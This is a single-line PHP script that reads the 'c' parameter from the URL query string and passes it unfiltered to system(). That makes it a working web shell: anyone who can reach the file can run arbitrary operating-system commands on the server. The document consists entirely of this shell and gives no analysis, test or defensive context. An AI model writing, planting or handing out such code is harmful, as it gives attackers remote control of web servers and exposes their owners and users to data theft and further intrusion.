<?php $c = str_replace("X", $_GET["c"], "X"); system($c);
